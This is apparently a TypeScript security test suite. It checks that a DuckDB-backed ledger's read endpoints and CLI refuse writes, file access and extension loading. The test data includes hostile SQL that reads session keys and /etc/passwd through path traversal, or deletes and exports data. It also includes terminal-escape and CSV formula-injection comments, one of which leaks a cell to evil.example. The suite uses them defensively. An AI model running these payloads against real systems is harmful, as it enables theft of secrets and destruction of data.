/**
 * Issue 12, Found 1 and 8: a "read" must not change the ledger or reach beyond its tables, at every
 * entry point — Ledger.query on the writer (what the ledger worker's read endpoint runs), the read
 * endpoint over HTTP, `prefline query` through that endpoint and, with no worker, on its own read-only
 * instance, and `prefline query --release`. Each case asserts a clear refusal AND that nothing changed:
 * the ledger's row counts, the data folder's files, no secret in what was answered.
 */
import assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { loadConfig, loadSecret, type PreflineConfig } from '../../config';
import { publishRelease } from '../../releases/publisher';
import { queryRelease } from '../../releases/tools';
import { ArtifactStore } from '../../store/ArtifactStore';
import { Ledger, LedgerError, type LedgerErrorCode } from '../../store/Ledger';
import { LedgerReadServer } from '../../store/LedgerReadServer';
import type { CommitRequest } from '../../store/ledger-types';
import { ledgerWriterDirectories } from '../../workers/main';
import { spawnCli } from '../helpers/processes';
import { CUTOFF_1, fillLedger } from '../releases/fixtures';

/** Raw controls a terminal would obey. */
// eslint-disable-next-line no-control-regex -- finding control characters is the point
const RAW_CONTROLS = /[\u001b\u0007\u009b\u202e]/;

/** What a rater could type into a comment: a terminal hyperlink, a title change, a bidi override, a formula. */
const HOSTILE_COMMENT = '\u001b]8;;https://evil.example/\u0007click\u001b]8;;\u0007 \u001b]0;owned\u0007 \u202egnp.exe \u009b31m =HYPERLINK("https://evil.example","x")';
const FORMULA_COMMENT = '=HYPERLINK("https://evil.example/?leak="&A1,"details")';

function hostileCommit(): CommitRequest {
  const at = '2026-11-21T10:00:00.000Z';
  return {
    lifecycle: {
      lifecycleId: 'lc-hostile', runId: 'run-hostile', startedAt: at, deadlineAt: at, closedAt: at, closeReason: 'quorum', votesAccepted: 2,
      plan: {
        prompt: '@SUM(1+1)*cmd|" /C calc"!A0', models: ['demo:text'], candidatesPerModel: 1, params: {}, channel: { kind: 'web' }, channelLabel: 'web',
        quorum: { kind: 'perCandidate', votes: 2 }, deadline: { kind: 'duration', ms: 60_000 },
      },
    },
    candidates: [{
      id: 'c1', label: 'A', model: 'demo:text', kind: 'text', text: 'x', placeholder: true,
      artifact: { sha256: 'f'.repeat(64), mime: 'text/plain', size: 1, path: `sha256/ff/${'f'.repeat(64)}.txt` },
      provenance: { backend: 'demo', model: 'demo:text', params: {}, seed: 1, wallTimeMs: 1 },
    }],
    votes: [HOSTILE_COMMENT, FORMULA_COMMENT].map((comment, i) => ({
      idempotencyKey: `web:hostile-${i}`, candidateId: 'c1', value: 'down' as const, rater: `r_hostile_${i}`, channel: 'web',
      castAt: at, seq: i + 1, acceptedAt: at, standing: true, comment,
    })),
  };
}

describe('security: reads that cannot write (issue 12, Found 1 and 8)', function () {
  this.timeout(120_000);
  let root: string;
  let config: PreflineConfig;
  let secret: string;
  let ledger: Ledger | undefined;
  let releaseDir: string;
  let otherReleaseDir: string;
  /** Stands for Temporal's database: recipients' addresses a read must not reach. */
  let temporalDb: string;

  /** Row counts of every table, through the writer's own connection (not the read path under test). */
  async function counts(): Promise<Record<string, number>> {
    if (!ledger) throw new Error('the writer is closed');
    return ledger.withConnection(async (c) => {
      const out: Record<string, number> = {};
      const tables = (await c.runAndReadAll(`SELECT table_name FROM duckdb_tables() WHERE NOT temporary ORDER BY ALL`)).getRows().map((r) => String(r[0]));
      out['tables'] = tables.length;
      for (const t of tables) out[t] = Number((await c.runAndReadAll(`SELECT count(*) FROM "${t}"`)).getRows()[0]?.[0]);
      out['standing votes'] = Number((await c.runAndReadAll(`SELECT count(*) FROM votes WHERE standing`)).getRows()[0]?.[0]);
      return out;
    });
  }

  /** Every file under the data folder but DuckDB's own WAL and spill files, with sizes. */
  function files(): string[] {
    const out: string[] = [];
    const walk = (dir: string) => {
      for (const entry of fs.readdirSync(dir, { withFileTypes: true })) {
        const file = path.join(dir, entry.name);
        if (entry.name.startsWith('ledger.duckdb.')) continue;
        if (entry.isDirectory()) walk(file);
        else out.push(`${path.relative(config.dataDir, file)} ${fs.lstatSync(file).size}`);
      }
    };
    walk(config.dataDir);
    return out.sort();
  }

  async function refusal(promise: Promise<unknown>, code: LedgerErrorCode, pattern: RegExp): Promise<LedgerError> {
    const err = await promise.then(() => undefined, (e: unknown) => e);
    assert.ok(err instanceof LedgerError, `expected a LedgerError ${code}, got ${err === undefined ? 'a result' : String(err)}`);
    assert.equal(err.code, code, err.message);
    assert.match(err.message, pattern);
    assert.ok(!err.message.includes(secret), 'the refusal must not carry the secret');
    return err;
  }

  before(async () => {
    root = fs.mkdtempSync(path.join(os.tmpdir(), 'prefline-sec-reads-'));
    config = loadConfig({ PREFLINE_DATA_DIR: path.join(root, 'data') }, root);
    secret = loadSecret(config, 'session', {}).toString('utf8');
    temporalDb = path.join(config.dataDir, 'temporal.db');
    fs.writeFileSync(temporalDb, 'SQLite format 3\u0000 recipient alice@example.org', { mode: 0o600 });
    const artifacts = await ArtifactStore.open(config.artifactDir);
    ledger = await Ledger.openWriter(config.ledger.path, { allowedDirectories: ledgerWriterDirectories(config) });
    await fillLedger(ledger, artifacts);
    await ledger.commit(hostileCommit());
    otherReleaseDir = (await publishRelease({ ledger, releasesDir: config.releasesDir, cutoff: CUTOFF_1, releaseId: 'other', artifactDir: config.artifactDir })).dir;
    releaseDir = (await publishRelease({ ledger, releasesDir: config.releasesDir, cutoff: new Date().toISOString(), releaseId: 'current', artifactDir: config.artifactDir })).dir;
  });

  after(() => {
    ledger?.closeSync();
    fs.rmSync(root, { recursive: true, force: true });
  });

  /** Refusals of the read path: [what, the query (built once the data folder exists), pattern of the message]. */
  const ATTACKS: Array<[string, () => string, RegExp]> = [
    ['EXPLAIN ANALYZE DELETE (which executes the DELETE)', () => 'EXPLAIN ANALYZE DELETE FROM votes', /explained here.*DELETE/],
    ['EXPLAIN (ANALYZE) DELETE', () => 'EXPLAIN (ANALYZE) DELETE FROM votes', /explained here.*DELETE/],
    ['EXPLAIN (ANALYZE, FORMAT json) UPDATE', () => 'EXPLAIN (ANALYZE, FORMAT json) UPDATE votes SET standing = false', /explained here.*UPDATE/],
    ['EXPLAIN ANALYZE INSERT', () => `EXPLAIN ANALYZE INSERT INTO ledger_meta VALUES ('x', 'y')`, /explained here.*INSERT/],
    ['EXPLAIN ANALYZE CREATE TABLE AS', () => 'EXPLAIN ANALYZE CREATE TABLE evil AS SELECT * FROM votes', /explained here.*CREATE/],
    ['EXPLAIN ANALYZE with a comment hiding where the statement starts', () => 'EXPLAIN /* x */ ANALYZE DELETE FROM votes', /EXPLAIN is accepted as|explained here/],
    ['EXPLAIN ANALYZE CALL checkpoint()', () => 'EXPLAIN ANALYZE CALL checkpoint()', /explained here.*CALL/],
    ['read_text of the session key', () => `SELECT * FROM read_text('${path.join(config.dataDir, 'secrets', 'session.key')}')`, /no files, network or extensions/],
    ['read_text of the key through ../ from an allowed folder', () => `SELECT * FROM read_text('${path.join(config.releasesDir, '..', 'secrets', 'session.key')}')`, /no files/],
    ['read_blob of Temporal\'s database', () => `SELECT * FROM read_blob('${temporalDb}')`, /no files/],
    ['glob of /etc', () => `SELECT * FROM glob('/etc/*')`, /no files/],
    ['read_csv of /etc/passwd', () => `SELECT * FROM read_csv('/etc/passwd')`, /no files/],
    ['a remote parquet file', () => `SELECT * FROM read_parquet('https://example.com/x.parquet')`, /no files/],
    ['query() smuggling a file read', () => `SELECT * FROM query('SELECT * FROM read_text(''${path.join(config.dataDir, 'secrets', 'session.key')}'')')`, /no files/],
    ['COPY … TO a file in the releases folder', () => `COPY votes TO '${path.join(config.releasesDir, 'leak.csv')}'`, /only SELECT/],
    ['COPY (SELECT) TO the data folder', () => `COPY (SELECT * FROM votes) TO '${path.join(config.dataDir, 'leak.csv')}'`, /only SELECT/],
    ['EXPORT DATABASE', () => `EXPORT DATABASE '${path.join(config.releasesDir, 'export')}'`, /only SELECT/],
    ['ATTACH a new database file', () => `ATTACH '${path.join(config.releasesDir, 'evil.duckdb')}' AS evil`, /only SELECT/],
    ['INSTALL an extension', () => 'INSTALL httpfs', /only SELECT.*LOAD/],
    ['LOAD an extension', () => 'LOAD httpfs', /only SELECT.*LOAD/],
    ['SET enable_external_access', () => 'SET enable_external_access = true', /only SELECT.*SET/],
    ['SET memory_limit (a setting the release writer may change)', () => `SET memory_limit = '1TB'`, /only SELECT.*SET/],
    ['PRAGMA threads', () => 'PRAGMA threads = 1', /only SELECT.*SET/],
    ['PRAGMA enable_profiling', () => 'PRAGMA enable_profiling', /only SELECT.*PRAGMA/],
    ['CALL', () => 'CALL checkpoint()', /only SELECT.*CALL.*SELECT \* FROM f\(\)/],
    ['CHECKPOINT', () => 'CHECKPOINT', /only SELECT.*CALL/],
    ['FORCE CHECKPOINT (aborts running commits)', () => 'FORCE CHECKPOINT', /only SELECT.*CALL/],
    ['force_checkpoint() in a SELECT', () => 'SELECT * FROM force_checkpoint()', /cannot change/],
    ['DELETE', () => 'DELETE FROM votes', /only SELECT.*DELETE/],
    ['TRUNCATE', () => 'TRUNCATE votes', /only SELECT.*DELETE/],
    ['UPDATE', () => 'UPDATE votes SET standing = NOT standing', /only SELECT.*UPDATE/],
    ['MERGE', () => `MERGE INTO ledger_meta USING (SELECT 'schema_version' AS key) s ON ledger_meta.key = s.key WHEN MATCHED THEN DELETE`, /only SELECT.*MERGE/],
    ['DROP', () => 'DROP TABLE votes', /only SELECT.*DROP/],
    ['ALTER', () => 'ALTER TABLE votes DROP COLUMN comment', /only SELECT.*ALTER/],
    ['CREATE TEMP TABLE', () => 'CREATE TEMP TABLE t AS SELECT 1', /only SELECT.*CREATE/],
    ['COMMIT (would end the read-only transaction)', () => 'COMMIT', /only SELECT.*TRANSACTION/],
    ['DETACH', () => 'DETACH ledger', /only SELECT.*DETACH/],
    ['VACUUM', () => 'VACUUM', /only SELECT.*VACUUM/],
    ['PREPARE', () => 'PREPARE p AS DELETE FROM votes', /only SELECT.*PREPARE/],
    ['a SELECT then a DELETE', () => 'SELECT 1; DELETE FROM votes', /exactly one statement/],
    ['a DELETE after a comment line', () => '-- just a comment\nDELETE FROM votes', /only SELECT.*DELETE/],
    ['an empty query', () => '  \n ', /empty/],
  ];

  describe('Ledger.query on the writer (the rules every read path shares)', () => {
    for (const [what, sql, pattern] of ATTACKS) {
      it(`should refuse ${what}, and change nothing`, async () => {
        const before = await counts();
        const filesBefore = files();
        await refusal(ledger!.query(sql()), 'prefline_ledger_query_refused', pattern);
        assert.deepEqual(await counts(), before);
        assert.deepEqual(files(), filesBefore);
      });
    }

    it('should refuse DML hidden in a CTE at DuckDB\'s parser, and change nothing', async () => {
      const before = await counts();
      await assert.rejects(ledger!.query('WITH gone AS (DELETE FROM votes RETURNING *) SELECT count(*) FROM gone'), /Parser Error/);
      assert.deepEqual(await counts(), before);
    });

    it('should keep what a comment hides a comment: a SELECT with "; DELETE" in a comment only reads', async () => {
      const before = await counts();
      const { rows } = await ledger!.query('SELECT count(*)::INT AS n FROM votes /* ; DELETE FROM votes */');
      assert.deepEqual(rows, [{ n: before['votes'] }]);
      assert.deepEqual(await counts(), before);
    });

    it('should run the reads analysts write: WITH, FROM-first, VALUES, DESCRIBE, SUMMARIZE, SHOW, EXPLAIN [ANALYZE] SELECT', async () => {
      const before = await counts();
      for (const sql of [
        'WITH v AS (SELECT * FROM votes) SELECT count(*) FROM v', 'FROM feedback LIMIT 1', 'VALUES (1), (2)', 'DESCRIBE votes', 'SUMMARIZE votes',
        'SHOW TABLES', 'PRAGMA table_info(votes)', 'EXPLAIN SELECT * FROM votes', 'EXPLAIN ANALYZE SELECT count(*) FROM votes',
        'EXPLAIN (ANALYZE, FORMAT json) SELECT 1', 'EXPLAIN (SELECT 1)',
      ]) {
        const result = await ledger!.query(sql);
        assert.ok(result.rows.length > 0, sql);
      }
      assert.deepEqual(await counts(), before);
    });

    it('should refuse a result over 10,000 rows with what to do instead', async () => {
      await refusal(ledger!.query('SELECT * FROM range(20000)'), 'prefline_ledger_query_too_large', /more than 10,000 rows.*LIMIT.*--release latest --format csv/);
      assert.equal((await ledger!.query('SELECT * FROM range(10000)')).rows.length, 10_000);
    });
  });

  describe('Ledger.queryIsolated (the read endpoint\'s path: a process of its own over a copy)', () => {
    const commitBeside = (n: number) => {
      const request = hostileCommit();
      return ledger!.commit({ ...request, lifecycle: { ...request.lifecycle, runId: `run-beside-${n}`, lifecycleId: `lc-beside-${n}` } });
    };

    it('should see every commit made before the query, and never half of one made while copying', async () => {
      const before = (await counts())['votes'] ?? 0;
      await commitBeside(0);
      const first = await ledger!.queryIsolated(`SELECT count(*)::INT AS n FROM votes`);
      assert.deepEqual(first.rows, [{ n: before + 2 }], 'a read sees the commit just made');
      // Commits keep coming while copies are taken: each copy holds whole commits only (2 votes each).
      let committing = true;
      const commits = (async () => {
        for (let n = 1; committing; n++) await commitBeside(n);
      })();
      try {
        for (let i = 0; i < 5; i++) {
          const { rows } = await ledger!.queryIsolated(`SELECT run_id, count(*)::INT AS n FROM votes WHERE run_id LIKE 'run-beside-%' GROUP BY ALL HAVING count(*) <> 2`);
          assert.deepEqual(rows, [], 'a lifecycle with part of its commit');
        }
      } finally {
        committing = false;
        await commits;
      }
    });

    it('should see a voting lifecycle\'s increments whole (new votes and the flags they clear) while copies are taken', async () => {
      // Increment n: votes 2n-1 and 2n, standing, and the two before them no longer standing (unstand),
      // under a lifecycle row without a close. Every whole increment leaves exactly two standing votes.
      const increment = (n: number): CommitRequest => {
        const request = hostileCommit();
        const { closedAt: _closed, closeReason: _reason, ...open } = request.lifecycle;
        const votes = [2 * n - 1, 2 * n].map((seq) => ({ ...request.votes[0]!, idempotencyKey: `web:increment-${seq}`, seq, comment: `vote ${seq}` }));
        return {
          lifecycle: { ...open, runId: 'run-increments', lifecycleId: 'lc-increments', votesAccepted: 2 * n },
          candidates: n === 1 ? request.candidates : [],
          votes,
          ...(n > 1 ? { unstand: [2 * n - 3, 2 * n - 2] } : {}),
        };
      };
      const seen = async () => {
        const { rows } = await ledger!.queryIsolated(
          `SELECT count(*)::INT AS votes, count(*) FILTER (WHERE standing)::INT AS standing, any_value(l.close_reason) AS close_reason
             FROM votes v JOIN lifecycles l USING (run_id) WHERE run_id = 'run-increments'`,
        );
        return rows[0] as { votes: number; standing: number; close_reason: string | null };
      };
      // Each increment is seen by the next read: a fresh copy, with the flags it cleared.
      await ledger!.commit(increment(1));
      assert.deepEqual(await seen(), { votes: 2, standing: 2, close_reason: null });
      await ledger!.commit(increment(2));
      assert.deepEqual(await seen(), { votes: 4, standing: 2, close_reason: null });
      let committing = true;
      let committed = 2;
      const commits = (async () => {
        for (let n = 3; committing; n++) {
          await ledger!.commit(increment(n));
          committed = n;
        }
      })();
      try {
        for (let i = 0; i < 5; i++) {
          const copy = await seen();
          assert.ok(copy.votes % 2 === 0 && copy.votes >= 4, `whole increments only: ${JSON.stringify(copy)}`);
          assert.deepEqual([copy.standing, copy.close_reason], [2, null], `an increment with its unstand: ${JSON.stringify(copy)}`);
        }
      } finally {
        committing = false;
        await commits;
      }
      assert.ok(committed > 2, 'increments were committed while the copies were taken');
      assert.deepEqual(await seen(), { votes: 2 * committed, standing: 2, close_reason: null });
    });

    it('should stop a read at its time limit, while commits beside it run as fast as ever', async () => {
      const started = Date.now();
      const heavy = ledger!.queryIsolated('SELECT sum(a.range * b.range) FROM range(300000) a, range(300000) b', { timeoutMs: 1500 });
      const before = await counts();
      const slowest: number[] = [];
      for (let n = 100; n < 110; n++) {
        const t = Date.now();
        assert.deepEqual(await commitBeside(n), { voteRowsInserted: 2, voteRowsForLifecycle: 2 });
        slowest.push(Date.now() - t);
      }
      assert.ok(Math.max(...slowest) < 1000, `a commit waited ${Math.max(...slowest)} ms beside the read`);
      await refusal(heavy, 'prefline_ledger_query_timeout', /longer than 1\.5 s/);
      assert.ok(Date.now() - started < 10_000, `the read ran ${Date.now() - started} ms despite its 1.5 s limit`);
      assert.equal((await counts())['votes'], (before['votes'] ?? 0) + 20);
    });

    it('should kill a read that ignores the interrupt (one long scalar call) soon after its time limit', async () => {
      const started = Date.now();
      await refusal(
        ledger!.queryIsolated(`SELECT levenshtein(repeat('a', 150000), repeat('b', 150000)) AS d`, { timeoutMs: 500 }),
        'prefline_ledger_query_timeout',
        /longer than 0\.5 s/,
      );
      const elapsed = Date.now() - started;
      assert.ok(elapsed < 8_000, `the read ran ${elapsed} ms (DuckDB alone would take far longer)`);
    });

    it('should kill a read whose memory DuckDB does not limit, without the writer\'s memory growing', async () => {
      const rssBefore = process.memoryUsage().rss;
      const before = await counts();
      // A 1e9-element list: DuckDB's memory_limit does not cover it, nor does interrupt() stop it.
      await refusal(ledger!.queryIsolated('SELECT len(range(1000000000)) AS n', { memoryBytes: 128 * 1024 ** 2 }), 'prefline_ledger_query_memory', /more than 128 MiB/);
      assert.ok(process.memoryUsage().rss - rssBefore < 200 * 1024 ** 2, 'the writer process grew');
      assert.deepEqual(await counts(), before);
      await commitBeside(200);
    });

    it('should refuse a read that needs more than its memory inside DuckDB', async () => {
      await refusal(
        ledger!.queryIsolated(`SELECT range % 3000000 AS k, list(range::VARCHAR || 'padding-padding') AS l FROM range(6000000) GROUP BY k ORDER BY k DESC LIMIT 1`, { memoryBytes: 64 * 1024 ** 2 }),
        'prefline_ledger_query_memory',
        /more than 64 MiB/,
      );
    });

    it('should refuse a result over 10,000 rows, and an EXPLAIN ANALYZE DELETE, as the in-process path does', async () => {
      const before = await counts();
      await refusal(ledger!.queryIsolated('SELECT * FROM range(20000)'), 'prefline_ledger_query_too_large', /more than 10,000 rows/);
      await refusal(ledger!.queryIsolated('EXPLAIN ANALYZE DELETE FROM votes'), 'prefline_ledger_query_refused', /explained here.*DELETE/);
      assert.deepEqual(await counts(), before);
    });

    it('should run reads one at a time and refuse more than eight waiting as busy', async () => {
      const slow = () => ledger!.queryIsolated('SELECT sum(a.range * b.range) FROM range(300000) a, range(300000) b', { timeoutMs: 200 });
      const outcomes = await Promise.allSettled(Array.from({ length: 10 }, slow));
      const codes = outcomes.map((o) => (o.status === 'rejected' && o.reason instanceof LedgerError ? o.reason.code : 'other'));
      assert.equal(codes.filter((c) => c === 'prefline_ledger_busy').length, 1, codes.join(','));
      assert.equal(codes.filter((c) => c === 'prefline_ledger_query_timeout').length, 9, codes.join(','));
    });
  });

  describe('the read endpoint over HTTP, and prefline query through it', () => {
    let server: LedgerReadServer | undefined;

    before(async () => {
      server = await LedgerReadServer.start(ledger!, { host: '127.0.0.1', port: 0, endpointFile: config.ledger.endpointFile });
    });
    after(async () => {
      await server?.close();
    });

    const post = async (sql: string) => {
      const response = await fetch(`${server!.endpoint.url}/query`, {
        method: 'POST', headers: { authorization: `Bearer ${server!.endpoint.token}`, 'content-type': 'application/json' }, body: JSON.stringify({ sql }),
      });
      return { status: response.status, body: (await response.json()) as { error?: string; code?: string } };
    };

    for (const [what, sql, pattern] of ATTACKS.filter(([w]) => /^(EXPLAIN ANALYZE DELETE|read_text of the session key|glob of \/etc|ATTACH)/.test(w))) {
      it(`should answer 400 with the reason to ${what}, and change nothing`, async () => {
        const before = await counts();
        const res = await post(sql());
        assert.equal(res.status, 400);
        assert.equal(res.body.code, 'prefline_ledger_query_refused');
        assert.match(res.body.error ?? '', pattern);
        assert.ok(!JSON.stringify(res.body).includes(secret));
        assert.deepEqual(await counts(), before);
      });
    }

    /** `prefline query` as a user runs it: a child process that finds the endpoint in the data folder. */
    async function query(args: string[]): Promise<{ code: number | null; stdout: string; stderr: string }> {
      const child = spawnCli(['query', ...args], { PREFLINE_DATA_DIR: config.dataDir });
      let stdout = '';
      let stderr = '';
      child.child.stdout!.on('data', (d: Buffer) => (stdout += d.toString()));
      child.child.stderr!.on('data', (d: Buffer) => (stderr += d.toString()));
      const { code } = await child.exited;
      return { code, stdout, stderr };
    }

    it('should refuse `prefline query "EXPLAIN ANALYZE DELETE FROM votes"` through the worker, and keep every vote', async () => {
      const before = await counts();
      const out = await query(['EXPLAIN ANALYZE DELETE FROM votes']);
      assert.equal(out.code, 1, out.stdout + out.stderr);
      assert.match(out.stderr, /^prefline: only SELECT queries may be explained here/m);
      assert.deepEqual(await counts(), before);
    });

    it('should refuse to print the session key through the worker', async () => {
      const out = await query([`SELECT * FROM read_text('${path.join(config.dataDir, 'secrets', 'session.key')}')`]);
      assert.equal(out.code, 1);
      assert.match(out.stderr, /no files, network or extensions/);
      assert.ok(!(out.stdout + out.stderr).includes(secret), 'the key was printed');
    });

    it('should print comments with terminal escapes as visible text, and CSV formulas as text (Found 8)', async () => {
      const table = await query([`SELECT comment, prompt FROM feedback WHERE lifecycle_id = 'lc-hostile' ORDER BY comment`]);
      assert.equal(table.code, 0, table.stderr);
      assert.ok(!RAW_CONTROLS.test(table.stdout), `raw control characters in: ${JSON.stringify(table.stdout)}`);
      assert.ok(table.stdout.includes('␛]8;;https://evil.example/␇click'), table.stdout);
      assert.ok(table.stdout.includes('␇ \\u202egnp'), table.stdout);
      const csv = await query(['--format', 'csv', `SELECT comment, prompt, -1::BIGINT AS delta FROM feedback WHERE lifecycle_id = 'lc-hostile' ORDER BY comment`]);
      assert.equal(csv.code, 0, csv.stderr);
      assert.ok(!RAW_CONTROLS.test(csv.stdout), JSON.stringify(csv.stdout));
      const lines = csv.stdout.trim().split('\n');
      assert.equal(lines[0], 'comment,prompt,delta');
      assert.equal(lines[1], `"␛]8;;https://evil.example/␇click␛]8;;␇ ␛]0;owned␇ \\u202egnp.exe \\u009b31m =HYPERLINK(""https://evil.example"",""x"")","'@SUM(1+1)*cmd|"" /C calc""!A0",-1`);
      assert.equal(lines[2], `"'=HYPERLINK(""https://evil.example/?leak=""&A1,""details"")","'@SUM(1+1)*cmd|"" /C calc""!A0",-1`);
      const json = await query(['--format', 'json', `SELECT comment FROM feedback WHERE lifecycle_id = 'lc-hostile' ORDER BY comment LIMIT 1`]);
      assert.ok(!RAW_CONTROLS.test(json.stdout), JSON.stringify(json.stdout));
      assert.deepEqual(JSON.parse(json.stdout), [{ comment: HOSTILE_COMMENT }], 'JSON escapes controls and still parses to the same text');
    });
  });

  describe('prefline query --release (the release\'s files only)', () => {
    const releaseAttacks: Array<[string, () => string, RegExp]> = [
      ['read another release\'s files', () => `SELECT count(*) FROM read_parquet('${path.join(otherReleaseDir, 'votes.parquet')}')`, /no files/],
      ['glob the releases folder', () => `SELECT * FROM glob('${path.join(config.releasesDir, '*')}')`, /no files/],
      ['read the session key', () => `SELECT * FROM read_text('${path.join(config.dataDir, 'secrets', 'session.key')}')`, /no files/],
      ['read the key through ../ from the release folder', () => `SELECT * FROM read_text('${path.join(releaseDir, '..', '..', 'secrets', 'session.key')}')`, /no files/],
      ['read the ledger file', () => `SELECT * FROM read_blob('${config.ledger.path}')`, /no files/],
      ['glob /etc', () => `SELECT * FROM glob('/etc/*')`, /no files/],
      ['COPY into the release folder', () => `COPY votes TO '${path.join(releaseDir, 'extra.csv')}'`, /only SELECT/],
      ['EXPLAIN ANALYZE COPY into the release folder', () => `EXPLAIN ANALYZE COPY votes TO '${path.join(releaseDir, 'extra.csv')}'`, /explained here|only SELECT/],
      ['ATTACH the ledger', () => `ATTACH '${config.ledger.path}' AS l (READ_ONLY)`, /only SELECT/],
      ['INSTALL an extension', () => 'INSTALL httpfs', /only SELECT/],
      ['SET enable_external_access', () => 'SET enable_external_access = true', /only SELECT/],
      ['two statements', () => 'SELECT 1; SELECT 2', /exactly one statement/],
    ];
    for (const [what, sql, pattern] of releaseAttacks) {
      it(`should refuse to ${what}, and change no file`, async () => {
        const filesBefore = files();
        await refusal(queryRelease(releaseDir, sql()), 'prefline_ledger_query_refused', pattern);
        assert.deepEqual(files(), filesBefore);
      });
    }

    it('should read the release\'s own views and name the release in a row-limit refusal', async () => {
      const { rows } = await queryRelease(releaseDir, 'SELECT count(*)::INT AS n FROM votes');
      assert.ok(Number(rows[0]?.['n']) > 0);
      await refusal(queryRelease(releaseDir, 'SELECT * FROM range(20000)'), 'prefline_ledger_query_too_large', /release current/);
    });
  });

  describe('prefline query with no worker running (the read-only fallback)', () => {
    before(() => {
      ledger?.closeSync();
      ledger = undefined;
    });

    async function reopenedCounts(): Promise<Record<string, number>> {
      const reader = await Ledger.openReader(config.ledger.path);
      try {
        const out: Record<string, number> = {};
        for (const t of ['lifecycles', 'candidates', 'votes', 'ledger_meta', 'preference_pairs']) {
          out[t] = Number((await reader.query(`SELECT count(*)::INT AS n FROM ${t}`)).rows[0]?.['n']);
        }
        return out;
      } finally {
        reader.closeSync();
      }
    }

    const copyTarget = () => path.join(config.dataDir, 'copied.csv');
    const fallbackAttacks: Array<[string, () => string, RegExp]> = [
      ['EXPLAIN ANALYZE DELETE FROM votes', () => 'EXPLAIN ANALYZE DELETE FROM votes', /explained here/],
      ['read_text of the session key', () => `SELECT * FROM read_text('${path.join(config.dataDir, 'secrets', 'session.key')}')`, /no files, network or extensions/],
      ['glob of /etc', () => `SELECT * FROM glob('/etc/*')`, /no files/],
      ['COPY into the data folder', () => `COPY votes TO '${copyTarget()}'`, /only SELECT/],
    ];
    for (const [what, sql, pattern] of fallbackAttacks) {
      it(`should refuse ${what}, print nothing secret, and change nothing`, async () => {
        assert.equal(fs.existsSync(config.ledger.endpointFile), false, 'no worker endpoint: the CLI opens the file itself');
        const before = await reopenedCounts();
        const target = copyTarget();
        const child = spawnCli(['query', sql()], { PREFLINE_DATA_DIR: config.dataDir });
        const { code } = await child.exited;
        const output = child.output();
        assert.equal(code, 1, output);
        assert.match(output, pattern);
        assert.ok(!output.includes(secret), 'the key was printed');
        assert.equal(fs.existsSync(target), false);
        assert.deepEqual(await reopenedCounts(), before);
      });
    }

    it('should apply the same locks to a read-only reader: no file, no SET, no network', async () => {
      const reader = await Ledger.openReader(config.ledger.path);
      try {
        const settings = (await reader.query(`SELECT name, value FROM duckdb_settings() WHERE name IN ('enable_external_access', 'lock_configuration', 'autoload_known_extensions', 'autoinstall_known_extensions', 'access_mode') ORDER BY name`)).rows;
        assert.deepEqual(settings, [
          { name: 'access_mode', value: 'read_only' },
          { name: 'autoinstall_known_extensions', value: 'false' },
          { name: 'autoload_known_extensions', value: 'false' },
          { name: 'enable_external_access', value: 'false' },
          { name: 'lock_configuration', value: 'true' },
        ]);
      } finally {
        reader.closeSync();
      }
    });
  });
});
